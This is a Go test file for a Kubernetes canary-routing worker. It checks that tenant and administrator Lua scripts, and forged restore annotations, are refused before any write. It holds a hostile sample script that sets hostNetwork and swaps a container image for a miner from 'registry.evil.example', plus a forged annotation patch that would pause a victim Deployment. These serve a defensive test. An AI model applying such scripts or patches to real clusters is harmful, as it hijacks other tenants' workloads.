package traffic_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"slipway.io/slipway/activities/traffic"
	"slipway.io/slipway/release/failure"
	"slipway.io/slipway/release/rollout"
	"slipway.io/slipway/release/rollout/strategy"
	routing "slipway.io/slipway/release/rollout/traffic"
	"slipway.io/slipway/test/harness"
	"slipway.io/slipway/test/routes"
)

// script writes a script into a ConfigMap of the namespace.
func (b *bench) script(key, text string) {
	b.t.Helper()
	_, err := b.kube.CoreV1().ConfigMaps(b.namespace).Create(b.t.Context(), &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "slipway-traffic-scripts"}, Data: map[string]string{key: text}},
		metav1.CreateOptions{})
	require.NoError(b.t, err)
}

// customRouting routes by one custom object.
func customRouting(apiVersion, kind, name string) strategy.Routing {
	return strategy.Routing{Service: "order", Custom: []strategy.ObjectRef{
		{APIVersion: apiVersion, Kind: kind, Name: name}}}
}

// ensure asks for a share of 20 %.
func (b *bench) ensure(r strategy.Routing) rollout.RouteRequest {
	req := b.request(rollout.RouteEnsure, r)
	req.Traffic = weight(20)
	return req
}

// refusedEverywhere checks that a preflight and each step refuse a routing for this reason, and write nothing.
func (b *bench) refusedEverywhere(r strategy.Routing, reason string) {
	b.t.Helper()
	refusals, _, _ := b.preflight(r, weight(20))
	require.Len(b.t, refusals, 1)
	require.Contains(b.t, refusals[0].Reason, reason)
	before := b.wire.count()
	for _, action := range []rollout.RouteAction{rollout.RoutePin, rollout.RouteEnsure, rollout.RouteToNew} {
		req := b.ensure(r)
		req.Action = action
		message, _ := b.fails(req, failure.Refused)
		require.Contains(b.t, message, reason, "%s", action)
	}
	require.Equal(b.t, before, b.wire.count(), "%v", b.wire.writes)
}

const takeOverScript = `
obj.data.spec.template.spec.hostNetwork = true
obj.data.spec.template.spec.containers[1].image = "registry.evil.example/miner:1"
return obj.data`

// A tenant who may not change a Deployment does not have the worker change it by his own script, whatever the worker's
// settings allow.
func TestReach_ExcludesDeployments(t *testing.T) {
	b := newBench(t)
	b.shop()
	b.apply(deploymentYAML)
	b.apply(strings.ReplaceAll(deploymentYAML, "order", "victim"))
	b.script("lua.traffic.routing.Deployment.apps", takeOverScript)
	before := b.object("Deployment", "victim")
	tenant := []string{b.namespace}
	for _, options := range []traffic.Options{{}, {Reach: routing.Reach{TenantScripts: tenant}},
		{Reach: routing.Reach{TenantScripts: tenant, Kinds: []routing.Kind{routing.CustomKind("apps", "deployments")}}},
		{ScriptsNamespace: b.namespace},
	} {
		b.use(b.config, options)
		b.refusedEverywhere(customRouting("apps/v1", "Deployment", "victim"),
			"deployments.apps is of Kubernetes' group apps, whose objects are never changed")
		b.must(b.request(rollout.RouteToStable, customRouting("apps/v1", "Deployment", "victim")))
	}
	after := b.object("Deployment", "victim")
	require.Equal(t, before.Object["spec"], after.Object["spec"])
	require.NotContains(t, fmt.Sprint(after.GetLabels(), after.GetAnnotations()), "slipway.io/")
}

// The original of a borrowed object is an annotation. On a Deployment it can be written by clients that may not change
// the spec: a restore must not do that for them.
func TestReach_ExcludesDeployments_FromRestore(t *testing.T) {
	b := newBench(t)
	b.shop()
	b.apply(strings.ReplaceAll(deploymentYAML, "order", "victim"))
	r := customRouting("apps/v1", "Deployment", "victim")
	forged := fmt.Sprintf(`metadata: {annotations: {slipway.io/held-by: %q, slipway.io/restore: '[{"op":"replace",`+
		`"path":"/spec","value":{"paused":true}}]'}}`, ours)
	b.merge("Deployment", "victim", forged)
	before := b.object("Deployment", "victim").Object["spec"]
	for _, overwrite := range []bool{false, true} {
		req := b.request(rollout.RouteToStable, r)
		req.Overwrite = overwrite
		message, _ := b.fails(req, failure.Refused)
		require.Contains(t, message, "is not restored, since deployments.apps is of Kubernetes' group apps")
		require.Contains(t, message, "slipway.io/restore")
	}
	require.Equal(t, before, b.object("Deployment", "victim").Object["spec"])
	b.merge("Deployment", "victim", "metadata: {annotations: {slipway.io/held-by: null, slipway.io/restore: null}}")
	b.must(b.request(rollout.RouteToStable, r))
}

// A release that has begun before the worker's list changed still restores what it has borrowed.
func TestRestore_NeedsNoListedKind(t *testing.T) {
	b, w := newBench(t), ways["custom"]
	before := own(b.set(w))
	b.apply(deploymentYAML)
	b.must(b.request(rollout.RoutePin, w.routing))
	b.must(b.ensure(w.routing))
	require.NotEqual(t, before, own(b.object(w.kind, "order")))
	b.use(b.config, traffic.Options{Reach: routing.Reach{Kinds: []routing.Kind{
		routing.CustomKind("projectcontour.io", "httpproxies")}}})
	const unlisted = "virtualservices.networking.istio.io is not in --traffic-kinds of this party's worker: ask its " +
		"administrator for --traffic-kinds with virtualservices.networking.istio.io"
	b.refusedEverywhere(w.routing, unlisted)
	b.refusedEverywhere(ways["ingress"].routing, "ingresses.networking.k8s.io is not in --traffic-kinds")
	b.refusedEverywhere(ways["httproute"].routing, "httproutes.gateway.networking.k8s.io is not in --traffic-kinds")
	for _, action := range []rollout.RouteAction{rollout.RouteUnpin, rollout.RouteToStable, rollout.RouteRemoveCanary} {
		b.must(b.request(action, w.routing))
	}
	require.Equal(t, before, own(b.object(w.kind, "order")))
}

const proxyYAML = `
apiVersion: projectcontour.io/v1
kind: HTTPProxy
metadata: {name: order, labels: {app.kubernetes.io/managed-by: Helm}, annotations: {note: mine}}
spec: {routes: [{services: [{name: order, port: 80}]}]}
`

// proxyScript and apisixScript have the form that Kruise Rollouts documents for kinds of one's own.
const (
	proxyScript = `
local spec = obj.data.spec
for _, route in ipairs(spec.routes) do
  for _, service in ipairs(route.services) do
    if service.name == obj.stableService then
      service.weight = obj.stableWeight
      table.insert(route.services, {name = obj.canaryService, port = service.port, weight = obj.canaryWeight})
      break
    end
  end
end
return obj.data`
	apisixScript = `
for _, rule in ipairs(obj.data.spec.http) do
  rule.backends = {
    {serviceName = obj.stableService, servicePort = 80, weight = obj.stableWeight},
    {serviceName = obj.canaryService, servicePort = 80, weight = obj.canaryWeight},
  }
end
obj.data.annotations["example.com/canary"] = "true"
return obj.data`
	apisixYAML = `
apiVersion: apisix.apache.org/v2
kind: ApisixRoute
metadata: {name: order}
spec: {http: [{name: all, backends: [{serviceName: order, servicePort: 80}]}]}
`
)

// A script from the namespace of the workload permits no kind. The refusal says what to ask the administrator for.
func TestTenantScript_PermitsNoKind(t *testing.T) {
	b := newBench(t)
	b.shop()
	b.apply(deploymentYAML)
	b.apply(proxyYAML)
	r := customRouting("projectcontour.io/v1", "HTTPProxy", "order")
	const noKind = "httpproxies.projectcontour.io is no kind that releases of this party's worker route by: ask its " +
		"administrator for --traffic-kinds with httpproxies.projectcontour.io"
	b.refusedEverywhere(r, noKind+", or for a script lua.traffic.routing.HTTPProxy.projectcontour.io in ConfigMap "+
		"kruise-rollout/kruise-rollout-configuration")
	b.script("lua.traffic.routing.HTTPProxy.projectcontour.io", proxyScript)
	b.refusedEverywhere(r, noKind+"; script lua.traffic.routing.HTTPProxy.projectcontour.io of ConfigMap "+
		b.namespace+"/slipway-traffic-scripts is not used")
	b.refusedEverywhere(r, "--tenant-scripts "+b.namespace)
	b.use(b.config, traffic.Options{Reach: routing.Reach{TenantScripts: []string{b.namespace}}})
	b.refusedEverywhere(r, noKind)

	listed := routing.Reach{Kinds: []routing.Kind{routing.CustomKind("projectcontour.io", "httpproxies")}}
	b.use(b.config, traffic.Options{Reach: listed})
	refusals, _, _ := b.preflight(r, weight(20))
	require.Len(t, refusals, 1)
	require.Contains(t, refusals[0].Reason, "--tenant-scripts "+b.namespace)
	listed.TenantScripts = []string{b.namespace}
	b.use(b.config, traffic.Options{Reach: listed})
	refusals, _, _ = b.preflight(r, weight(20))
	require.Empty(t, refusals)
	before := own(b.object("HTTPProxy", "order"))
	b.must(b.ensure(r))
	require.Contains(t, fmt.Sprint(b.object("HTTPProxy", "order").Object["spec"]), "name:order-canary")
	b.must(b.request(rollout.RouteToStable, r))
	require.Equal(t, before, own(b.object("HTTPProxy", "order")))
}

// A script that changes what it may not change is refused before the first write of a step, also if an administrator
// wrote it.
func TestScript_IsRefusedBeforeAnyWrite(t *testing.T) {
	b := newBench(t)
	b.shop()
	b.apply(deploymentYAML)
	b.apply(replaceSpace(virtualServiceYAML, b.namespace))
	b.apply(proxyYAML)
	b.script("lua.traffic.routing.HTTPProxy.projectcontour.io",
		`obj.data.labels["app.kubernetes.io/managed-by"] = "me"`+"\nreturn obj.data")
	r := customRouting("projectcontour.io/v1", "HTTPProxy", "order")
	r.Custom = append(ways["custom"].routing.Custom, r.Custom...) // the first of them could be written
	b.use(b.config, traffic.Options{ScriptsNamespace: b.namespace})
	const changes = "changes labels.app.kubernetes.io/managed-by, which no script may change"
	refusals, _, _ := b.preflight(r, weight(20))
	require.Len(t, refusals, 1)
	require.Contains(t, refusals[0].Reason, changes)
	before := b.wire.count()
	message, _ := b.fails(b.ensure(r), failure.Refused)
	require.Contains(t, message, changes)
	require.Equal(t, before, b.wire.count(), "%v", b.wire.writes)
	require.Nil(t, b.object("Service", "order-canary"))
}

// Kruise's own ConfigMap has scripts for two kinds of one's own: they are used without a setting. Ingress classes with
// scripts there work as before too.
func TestKruiseScripts_PermitTheirKinds(t *testing.T) {
	stack := harness.NewPrivateStack(t).Stack // the ConfigMap applies to the whole cluster
	t.Parallel()
	routes.Install(t, stack.REST)
	b := benchOn(t, stack)
	_, err := b.kube.CoreV1().Namespaces().Create(t.Context(), &corev1.Namespace{
		ObjectMeta: metav1.ObjectMeta{Name: "kruise-rollout"}}, metav1.CreateOptions{})
	require.True(t, err == nil || apierrors.IsAlreadyExists(err), "%v", err)
	_, err = b.kube.CoreV1().ConfigMaps("kruise-rollout").Create(t.Context(), &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: "kruise-rollout-configuration"}, Data: map[string]string{
			"lua.traffic.routing.HTTPProxy.projectcontour.io":   proxyScript,
			"lua.traffic.routing.ApisixRoute.apisix.apache.org": apisixScript,
			"lua.traffic.routing.ingress.edge": `obj.annotations["edge.example/weight"] = obj.weight` +
				"\nreturn obj.annotations",
		}}, metav1.CreateOptions{})
	require.NoError(t, err)
	b.shop()
	b.apply(deploymentYAML)
	b.apply(proxyYAML)
	b.apply(apisixYAML)
	b.apply(ingressYAML)
	r := customRouting("projectcontour.io/v1", "HTTPProxy", "order")
	r.Custom = append(r.Custom, strategy.ObjectRef{APIVersion: "apisix.apache.org/v2", Kind: "ApisixRoute",
		Name: "order"})
	proxy, apisix := own(b.object("HTTPProxy", "order")), own(b.object("ApisixRoute", "order"))
	refusals, _, _ := b.preflight(r, weight(20))
	require.Empty(t, refusals)
	b.must(b.ensure(r))
	require.Contains(t, fmt.Sprint(b.object("HTTPProxy", "order").Object["spec"]),
		"name:order-canary port:80 weight:20")
	require.Contains(t, fmt.Sprint(b.object("ApisixRoute", "order").Object["spec"]),
		"serviceName:order-canary servicePort:80 weight:20")
	require.Equal(t, "true", b.object("ApisixRoute", "order").GetAnnotations()["example.com/canary"])
	b.must(b.request(rollout.RouteToStable, r))
	require.Equal(t, proxy, own(b.object("HTTPProxy", "order")))
	require.Equal(t, apisix, own(b.object("ApisixRoute", "order")))
	b.must(b.request(rollout.RouteRemoveCanary, r))
	for _, class := range []string{"nginx", "aliyun-alb", "higress", "mse", "edge"} {
		byClass := strategy.Routing{Service: "order", Ingress: &strategy.IngressRef{Class: class, Name: "order"}}
		refusals, _, _ := b.preflight(byClass, weight(20))
		require.Empty(t, refusals, class)
		b.must(b.ensure(byClass))
		require.Contains(t, fmt.Sprint(b.object("Ingress", "order-canary").GetAnnotations()), "weight:20", class)
		b.must(b.request(rollout.RouteToStable, byClass))
		require.Nil(t, b.object("Ingress", "order-canary"), class)
	}
}
